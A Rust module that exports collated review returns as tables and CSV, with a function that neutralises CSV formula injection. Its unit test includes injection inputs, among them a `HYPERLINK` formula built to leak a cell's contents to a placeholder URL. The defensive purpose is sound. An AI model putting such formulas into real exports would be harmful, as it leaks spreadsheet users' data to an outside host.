//! The tables of a collation: one row per return, one per return and question (long format),
//! the flags, and the actions.

use std::borrow::Cow;

use iacmh_review::collate::Collation;
use iacmh_review::{Index, Stage};

/// A typed cell, so spreadsheets get numbers as numbers.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

impl Cell {
    fn text(s: impl Into<String>) -> Cell {
        Cell::Text(s.into())
    }

    fn opt_number(n: Option<f64>) -> Cell {
        n.map_or(Cell::Empty, |v| Cell::Number((v * 10.0).round() / 10.0))
    }

    fn yes_no(b: Option<bool>) -> Cell {
        b.map_or(Cell::Empty, |b| Cell::text(if b { "Yes" } else { "No" }))
    }

    fn count(n: impl TryInto<u32>) -> Cell {
        Cell::Number(f64::from(n.try_into().unwrap_or(u32::MAX)))
    }
}

#[derive(Clone, Debug, PartialEq)]
pub struct Table {
    pub name: &'static str,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// Makes text inert when a spreadsheet opens it as CSV (CSV injection, as OWASP describes it).
///
/// A spreadsheet may strip leading spaces and control characters before it looks for a formula
/// (LibreOffice drops a NUL, and with "trim spaces" the spaces), so the text is looked at after
/// any leading whitespace and control characters (NUL, tab, CR, LF, vertical tab, form feed, no-
/// break space, the ideographic space U+3000 ...): when it then begins with `=`, `+`, `-` or `@`,
/// or their full-width forms `＝＋－＠`, the whole text gets a leading `'`, which the spreadsheet
/// shows as text. A NUL is never written (no spreadsheet keeps one). Only CSV needs this: a
/// workbook's text cells are never formulas, so they are written exactly as the return has them.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let text: Cow<'_, str> = if text.contains('\0') { Cow::Owned(text.replace('\0', "")) } else { Cow::Borrowed(text) };
    let first = text.chars().find(|c| !(c.is_whitespace() || c.is_control()));
    let risky = matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
        // A leading tab or CR is itself on OWASP's list.
        || text.starts_with(['\t', '\r']);
    if risky { Cow::Owned(format!("'{text}")) } else { text }
}

fn stage(s: Option<Stage>) -> Cell {
    s.map_or(Cell::Empty, |s| Cell::text(s.label()))
}

/// One row per return.
pub fn returns(c: &Collation) -> Table {
    let index = Index::current();
    let mut headers: Vec<String> = [
        "file",
        "icb",
        "icb_code",
        "region",
        "level",
        "organisation",
        "team",
        "updated",
        "status",
        "valid",
        "errors",
        "warnings",
        "questions_answered",
        "questions_total",
        "template_done",
        "template_total",
        "overall_score",
        "overall_stage",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    for d in index.domains {
        headers.push(format!("d{}_score", d.number));
        headers.push(format!("d{}_stage", d.number));
    }
    headers.push("assured".to_owned());
    headers.extend(index.provision.iter().map(|p| p.question.key().to_owned()));
    headers.push("barriers".to_owned());
    let rows = c
        .returns
        .iter()
        .map(|r| {
            let mut row = vec![
                Cell::text(&r.file),
                Cell::text(&r.icb),
                r.icb_code.as_ref().map_or(Cell::Empty, Cell::text),
                Cell::text(&r.region),
                Cell::text(r.level.label()),
                Cell::text(&r.organisation),
                Cell::text(&r.team),
                r.updated.as_ref().map_or(Cell::Empty, Cell::text),
                Cell::text(r.status.label()),
                Cell::text(if r.valid { "Yes" } else { "No" }),
                Cell::count(r.errors),
                Cell::count(r.warnings),
                Cell::count(r.maturity.done),
                Cell::count(r.maturity.total),
                Cell::count(r.template.done),
                Cell::count(r.template.total),
                Cell::opt_number(r.overall_score),
                stage(r.overall_stage),
            ];
            for d in index.domains {
                let result = r.domains.iter().find(|x| x.domain == d.number);
                row.push(Cell::opt_number(result.and_then(|x| x.score)));
                row.push(stage(result.map(|x| x.stage)));
            }
            row.push(Cell::yes_no(r.assured));
            for p in index.provision {
                row.push(Cell::yes_no(r.provision.iter().find(|(q, _)| *q == p.question).and_then(|(_, v)| *v)));
            }
            row.push(Cell::text(r.barriers.iter().map(|b| b.label()).collect::<Vec<_>>().join("; ")));
            row
        })
        .collect();
    Table { name: "Returns", headers, rows }
}

/// One row per return and question: the long format for pivot tables.
pub fn questions(c: &Collation) -> Table {
    let index = Index::current();
    let headers = [
        "file",
        "icb",
        "level",
        "organisation",
        "team",
        "domain",
        "question",
        "category",
        "rating",
        "points",
        "comment",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let mut rows = Vec::new();
    for ((file, ret), summary) in c.kept.iter().zip(&c.returns) {
        for q in index.questions() {
            let answer = ret.maturity.answers.get(q.id);
            rows.push(vec![
                Cell::text(file),
                Cell::text(&summary.icb),
                Cell::text(ret.scope.level.label()),
                Cell::text(&ret.scope.organisation),
                Cell::text(&ret.scope.team),
                Cell::count(q.id.domain),
                Cell::text(q.id.to_string()),
                Cell::text(q.category.key()),
                answer.map_or(Cell::Empty, |a| Cell::text(a.rating.key())),
                answer.and_then(|a| a.rating.points()).map_or(Cell::Empty, Cell::count),
                answer.and_then(|a| a.comment.clone()).map_or(Cell::Empty, Cell::Text),
            ]);
        }
    }
    Table { name: "Questions", headers, rows }
}

/// The red flags, by ICB.
pub fn flags(c: &Collation) -> Table {
    Table {
        name: "Flags",
        headers: ["icb", "file", "flag", "detail"].iter().map(|s| (*s).to_owned()).collect(),
        rows: c
            .flags
            .iter()
            .map(|f| vec![Cell::text(&f.icb), Cell::text(&f.file), Cell::text(f.kind.label()), Cell::text(&f.message)])
            .collect(),
    }
}

/// Every Findings and Actions row of every return.
pub fn actions(c: &Collation) -> Table {
    let headers = ["file", "icb", "domain", "question", "finding", "action", "owner", "due", "completed", "comments"]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    let mut rows = Vec::new();
    for ((file, ret), summary) in c.kept.iter().zip(&c.returns) {
        for r in &ret.maturity.findings {
            rows.push(vec![
                Cell::text(file),
                Cell::text(&summary.icb),
                Cell::count(r.domain),
                r.question.map_or(Cell::Empty, |q| Cell::text(q.to_string())),
                Cell::text(&r.finding),
                Cell::text(&r.action),
                Cell::text(&r.owner),
                r.due.as_ref().map_or(Cell::Empty, Cell::text),
                Cell::text(if r.completed { "Yes" } else { "No" }),
                Cell::text(&r.comments),
            ]);
        }
    }
    Table { name: "Actions", headers, rows }
}

/// A table as CSV (RFC 4180, CRLF line ends), with formula-like text neutralised, and a UTF-8
/// byte-order mark first: without it Excel (UK) reads the file as Windows-1252 and shows "Siân"
/// as "SiÃ¢n" and "£" as "Â£".
pub fn to_csv(table: &Table) -> String {
    fn field(out: &mut String, text: &str) {
        let text = neutralise(text);
        if text.contains([',', '"', '\n', '\r']) {
            out.push('"');
            out.push_str(&text.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&text);
        }
    }
    let mut out = String::from('\u{FEFF}');
    let line = |out: &mut String, cells: Vec<Cow<'_, str>>| {
        for (i, c) in cells.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            field(out, c);
        }
        out.push_str("\r\n");
    };
    line(&mut out, table.headers.iter().map(|h| Cow::Borrowed(h.as_str())).collect());
    for row in &table.rows {
        line(
            &mut out,
            row.iter()
                .map(|c| match c {
                    Cell::Text(t) => Cow::Borrowed(t.as_str()),
                    Cell::Number(n) => Cow::Owned(n.to_string()),
                    Cell::Empty => Cow::Borrowed(""),
                })
                .collect(),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_text_is_neutralised_and_fields_quoted() {
        for (input, out) in [
            ("=SUM(A1)", "'=SUM(A1)"),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@cmd", "'@cmd"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("plain", "plain"),
            ("", ""),
            // Behind what a spreadsheet strips first: NUL (removed), spaces, controls, NBSP.
            ("\u{0}=1+1", "'=1+1"),
            ("\u{0}\u{0}=HYPERLINK(\"http://x/?leak=\"&A2)", "'=HYPERLINK(\"http://x/?leak=\"&A2)"),
            (" =1+1", "' =1+1"),
            ("\n\u{b}\u{c}\u{a0}\u{3000}-2", "'\n\u{b}\u{c}\u{a0}\u{3000}-2"),
            ("＝1+1", "'＝1+1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠SUM(1)", "'＠SUM(1)"),
            ("   plain", "   plain"),
            ("a = b", "a = b"),
            ("Siân – £1.2m", "Siân – £1.2m"),
            ("x\u{0}y", "xy"),
        ] {
            assert_eq!(neutralise(input), out, "{input:?}");
        }
        let t = Table {
            name: "T",
            headers: vec!["a".into(), "b".into()],
            rows: vec![
                vec![Cell::Text("=HYPERLINK(\"x\")".into()), Cell::Number(2.5)],
                vec![Cell::Text("a, \"b\"\nc".into()), Cell::Empty],
            ],
        };
        assert_eq!(to_csv(&t), "\u{FEFF}a,b\r\n\"'=HYPERLINK(\"\"x\"\")\",2.5\r\n\"a, \"\"b\"\"\nc\",\r\n");
    }
}
